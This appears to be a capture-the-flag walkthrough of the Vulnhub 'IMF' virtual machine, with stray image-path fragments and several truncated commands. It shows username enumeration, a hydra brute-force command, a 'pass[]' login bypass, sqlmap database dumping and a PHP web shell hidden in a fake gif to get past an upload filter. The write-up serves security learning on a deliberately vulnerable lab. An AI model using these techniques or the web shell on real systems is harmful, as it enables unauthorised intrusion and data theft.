Local network -

VM - IMF: 1


VM description from site:

Welcome to “IMF”, my first Boot2Root virtual machine. IMF is a intelligence agency that you must hack to get all flags and ultimately root. The flags start off easy and get harder as you progress. Each flag contains a hint to the next flag. I hope you enjoy this VM and learn something.

VM’s from vulnhub areusually have a web front-end, so I will be looking at that.

Find on my LAN

netdiscover -r

MAC Vendor Camdus Computer Systems = VM Virtualbox

Found possible target -

nmap -sS
port 80 open

Use browser - load IMF Webpage. Click around.

As stated in the description IMF is a US Intelligence agency. The site lists three possible targets:

Roger S. Michaels
Alexander B. Keith
Deputy Director
Elizabeth R. Stone
Chief of Staff


Quick scans from nmap and nikto yield nothing.

A possible vulnerability in web front-end is the contact form. Thecontact form does not display any errors after submission and Burp Suite shows nothing interesting. This could be a dead end.

In desperation - I decided to view page html source for any hints and got the first flag.

<!-- flag1{YWxsdGhlZmlsZXM=} -->

Looks like base64, let’s decrypt:

echo YWxsdGhlZmlsZXM= | base64 --decode

Back to the browser - - 404. I’ve tried several extensions (html, txt, etc) with no luck. Back to the html I guess..

Suspicious js files in html head:

<script src="js/ZmxhZzJ7YVcxbVl.js"></script>
<script src="js/XUnRhVzVwYzNS.js"></script>
<script src="js/eVlYUnZjZz09fQ==.min.js"></script>

eVlYUnZjZz09fQ==.min.js sticks out since it looks like base64 off the bat.

At first I thought the rest could be some backend js caching but let’s just try all three:

echo ZmxhZzJ7YVcxbVl | base64 --decode

echo XUnRhVzVwYzNS | base64 --decodebase64: invalid input

echo eVlYUnZjZz09fQ== | base64 --decode

Looks looks like i have to concatenate the two successful decodes to get the flag:


and one more decode gives me this somewhat garbled text which resembles the CTF VM Name:


So it seems like the input is close but not the exact string I need. After several attempts at combining strings, I ended up with this (which was the most obvious), ZmxhZzJ7YVcxbVlXUnRhVzVwYzNSeVlYUnZjZz09fQ==

echo ZmxhZzJ7YVcxbVlXUnRhVzVwYzNSeVlYUnZjZz09fQ== | base64 --decode

echo aW1mYWRtaW5pc3RyYXRvcg== | base64 --decode

Okay, back to the browser with our findings:

  • - 200 OK

Awesome,found the admin login area.

I tried some dummy data for username and password. Two things I noticed about this form:

  1. It looks like the form insecurely lets me know that the username I’ve tried is incorrect.
  2. Uses a phpsessid.

In Burp Suite, the “failed login” page’s response gives us a nice note from the developer (also could probably be Roger S. Michaels - the director):

Invalid username.
<form method="POST" action="">
<label>Username:</label><input type="text" name="user" value=""><br />
<label>Password:</label><input type="password" name="pass" value=""><br />
<input type="submit" value="Login">
<!-- I couldn't get the SQL working, so I hard-coded the password. It's still mad secure through. - Roger -->

At this point it looks like this is the form I’d have to exploit to get the rest of the flags.


Based off of Enumeration I will probably have to do some the followingthings:

  1. Brute force the username, probably using the names/ emails found on the public page
  2. Brute force the password
  3. Something with the PHPSESSID (I just don’t know what yet)

Users enumeration

In Burp Suite, I tested the following usernames to see if if the “Invalid username” message does not appear:

rmichaels@imf.local: Invalid username.
akeith@imf.local: Invalid username.
estone@imf.local: Invalid username.
*** rmichaels: Invalid password. ***
akeith: Invalid username.
estone: Invalid username.

Got a hit on Roger S. Michaels’s username.


Since bruteforcing seems to be a usual way to get flags in other Vulnhub VMs, I’ll try to brute force Roger’s account using hydra and a list built into kali at /usr/share/wordlists/*. I’ll start with the popular rockyou list. After a few hours of false positives and 301 errors I was able to craft a http-form-post string in hydra thanks to Burp Suite, Wireshark lots of Googling. In the end, I found that it was a missing “=” that got the best of me.

cd /usr/share/wordlists/
gunzip ./rockyou.txt.gz

hydra -l rmichaels -P /usr/share/wordlists/rockyou.txt http-form-post "/imfadministrator/index.php:user=^USER^&pass=^PASS^:Invalid:H=Cookie: PHPSESSID=71jtqremlb5q74hge3apaog8d3" -t 64

24 hours later - I was probably wrong about having to brute force this form.

Perhaps a something easier? The hint that thedeveloper gives is:

<!-- I couldn't get the SQL working, so I hard-coded the password. It's still mad secure through. - Roger -->

So the login code/ query might be something like this:

// Source http://www.securityidiots.com/Web-Pentest/SQL-Injection/bypass-login-using-sql-injection.html
// http://www.sqlinjection.net/login/
$query="select user,pass from users where user='$user' and $pass='HardC0dedP@ss'";


$query="select user from users where user='$user'";
// some php login to check if $_POST['pass'] == "HardC0dedP@ss"


After many wasted hours, I needed help. I found out that I was close, but an login bypass via sql injection was the wrong path to take. I needed to modify the password POST parameter to confuse validation. In Burp Suite, I modified the html field pass to pass[].


POST /imfadministrator/index.php?id=1 HTTP/1.1
User-Agent: Mozilla/5.0 (Hydra)
Accept:text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Cookie: PHPSESSID=b9d9u2tlf9f6haipank2vvj136
Connection: close
Content-Type: application/x-www-form-urlencoded
Content-Length: 25



HTTP/1.1 200 OK
Date: Fri, 11 Nov 2016 23:19:29 GMT
Server: Apache/2.4.18 (Ubuntu)
Expires: Thu, 19 Nov 1981 08:52:00 GMT
Cache-Control: no-store, no-cache, must-revalidate
Pragma: no-cache
Vary: Accept-Encoding
Content-Length: 100
Connection: close
Content-Type: text/html; charset=UTF-8flag3{Y29udGludWVUT2Ntcw==}<br />Welcome, rmichaels<br /><a href='cms.php?pagename=home'>IMF CMS</a>

Awesome. Now that I’m in, more recon. FYI, the decoded base64 in the flag is continueTOcms so lets do that.

Inside the CMS

The urls that are available in the CMS:<a href='cms.php?pagename=home'>Home</a> |
<a href='cms.php?pagename=upload'>Upload Report</a> |
<a href='cms.php?pagename=disavowlist'>Disavowed list</a> |

Few things I noted:

  • The way that the urls are structured makes it seem like the backend could be vulnerable to an LFI or SQLi exploit.
  • The upload page looks inactive.
  • The disavowlist seems interesting, maybe next flag is to view this page uncensored?

Messing with the url gives me these:':
Warning: mysqli_fetch_row() expects parameter 1 to be mysqli_result, boolean given in /var/www/html/imfadministrator/cms.php on line 29'or 'a'='a':
UnderConstruction.

I tried doing this by hand but resorted to using sqlmap. Since you can only access the CMS after logging in, you will need to pass the PHPSESSID through sqlmap: sqlmap -u --cookie=PHPSESSID=b4gd9bp56ne0b0o4c6il7ep113.

I ran the following commands with enumeration switches so that I don’t have to manually parse through the output

sqlmap -u --cookie=PHPSESSID=b4gd9bp56ne0b0o4c6il7ep113
current database:    'admin'

# enumerate tables before dumping - just to get an idea
sqlmap -u --cookie=PHPSESSID=b4gd9bp56ne0b0o4c6il7ep113 -D admin --tables
[12:02:23] [INFO] fetching tables for database: 'admin'
[12:02:23] [INFO] the SQL query used returns 1 entries
[12:02:23] [INFO] resumed: pages
Database: admin
[1 table]
| pages |

# And dump:
sqlmap -u --cookie=PHPSESSID=b4gd9bp56ne0b0o4c6il7ep113 -D admin --dump
Database: admin
Table: pages
[4 entries]
| id | pagename             | pagedata                                                                                                                                                              |
| 1  | upload               | Under Construction.                                                                                                                                                   |
| 2  | home                 | Welcome to the IMFAdministration.                                                                                                                                    |
| 3  | tutorials-incomplete | Training classroomsavailable. <br /><img src="./images/whiteboard.jpg"><br /> Contact us for training.                                                               |
| 4  | disavowlist          | <h1>Disavowed List</h1><img src="./images/redacted.jpg"><br /><ul><li>*********</li><li>****** ******</li><li>*******</li><li>**** ********</li></ul><br />-Secretary |

So the dump gives us this unpublished page: tutorials-incomplete.

Browsing to that page gives us a picture of a classroom with a QR code. I just used the Window’s builtinSnipping Tool to extrat the picture of the QR, and uploaded the picture over on https://webqr.com/ to get the following flag:


Which decodes to uploadr942.php


The previous flag gives us an upload form located at

I’m guessing this will give me a chance to upload a file, but it looks like the form accepts image files (png, jpeg, etc) so I will probably have to figure out how to bypass this. I initially tried to rename a .php file with .jpeg, but got an error Error: Invalid file data. so I’ll probably have to fire up Burp Suite and mess with some header information. I’ll probably have to mess with the php file too. Browsing togives me a Forbidden error which is better than a 404 since now I know that this directory exists within the CMS.

On a successful file upload, the following page gives this comment in the html: <!-- a4439acbfd50 --> which changes after every upload. It looks like it could be a checksum of some type, and is probably based off of the current time + file. Since the upload form allows me to upload multiple files with the same name, this could be the unique filename generated by the CMS. When I browse to, I get the uploaded file.

Next step is to trick the upload form into letting me upload a malicious php file. After multiple attempts, I’ve learned the following about this CMS’ upload form:

  1. It checks for a file extension of an image type (jpg, png, etc.).
  2. It checks the file header. You cannot just rename a .php into .jpeg without additional modification.
  3. It has a generic WAF that checks for code. I got this error on initial attempts: Error: CrappyWAF detected malware. Signature: system php function detected
  4. It serves you the file directly and is not embedded in a page, so injection via EXIF may not be possible.

I ended up exploiting option 2 from above and needed the help of another walkthrough using this VM. The cleanest option is to create an empty file and inject code that way. Here are some sources I found that helped me:

  • https://samsclass.info/121/proj/p7-image-header.htm
  •http://superuser.com/questions/237495/how-do-i-show-the-header-of-a-file-in-unix
  • http://www.file-recovery.com/jpg-signature-format.htm
# I found out later that this is only possible with a gif file
# Create an empty gif, insert the gif header signature:
echo "FFD8FFE0" | xxd -r -p > bad.gif

# Verify:
identify bad.gif

# Okay not the best output, but it does see it as a gif

# Inject code:
echo '<?php $cmd=$_GET["cmd"]; echo `$cmd`; ?>' >> bad.gif

I am now able to inject code by appending bash commands at the end of the url like so:
# Using curl makes this easier


echo YWdlbnRzZXJ2aWNlcw== | base64 --decode

